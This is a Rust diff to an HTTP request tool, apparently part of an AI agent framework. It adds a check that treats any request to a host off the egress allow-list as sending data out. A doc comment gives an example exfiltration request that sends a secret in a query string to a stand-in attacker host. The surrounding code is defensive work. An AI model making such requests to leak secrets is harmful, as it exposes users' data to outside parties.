@@ -13,7 +13,7 @@ use serde_json::{Map, Value, json};
 
 use super::parse_args;
 use crate::http::{GuardedHttp, GuardedRequest, GuardedResponse};
-use crate::{Tool, ToolContext, ToolError, ToolOutput};
+use crate::{DataScope, Tool, ToolContext, ToolError, ToolOutput};
 
 /// Longest time a model may ask for (SPEC §19), also the default.
 pub const MAX_TIMEOUT_MS: u64 = 30_000;
@@ -159,6 +159,13 @@ impl Tool for HttpRequestTool {
 
     fn is_idempotent(&self, input: &Value) -> bool {
         is_read(input)
+    }
+
+    /// Any method can leak (`GET https://attacker.example/?q=<secret>`): only hosts on the policy's egress
+    /// allow-list are vouched for.
+    fn sends_data_out(&self, input: &Value, scope: &DataScope) -> bool {
+        let url = input.get("url").and_then(Value::as_str).and_then(|url| url::Url::parse(url).ok());
+        !url.is_some_and(|url| scope.vouches_for(&url))
     }
 
     async fn call(&self, input: Value, ctx: &ToolContext) -> Result<ToolOutput, ToolError> {
